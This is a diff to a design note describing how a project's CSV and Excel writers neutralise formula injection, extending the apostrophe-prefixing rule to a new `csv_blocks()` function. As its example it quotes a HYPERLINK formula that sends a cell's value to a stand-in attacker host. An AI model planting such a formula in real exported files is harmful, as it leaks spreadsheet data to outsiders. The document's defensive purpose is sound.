@@ -2,8 +2,8 @@
 
 A title such as `=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")` must reach a clerk's Excel
 as the text it is, not as a live formula (OWASP "CSV Injection"). Every CSV writer goes through
-`writer()`/`dict_writer()`, which prefix a text starting with = + - @ tab or CR with an apostrophe;
-every Excel writer marks text cells as text (`text()`, `append_text()` for openpyxl; `workbook()`
+`writer()`/`dict_writer()`/`csv_blocks()`, which prefix a text starting with = + - @ tab or CR
+with an apostrophe; every Excel writer marks text cells as text (`text()`, `append_text()` for openpyxl; `workbook()`
 for the streamed ledgers in XlsxWriter), which Excel never evaluates, so the ledgers keep the
 title exactly as written. The ledgers' body rows go through `Rows`, which writes each row of a
 streamed sheet as one piece of XML, every string escaped as text, XlsxWriter's XML byte for byte
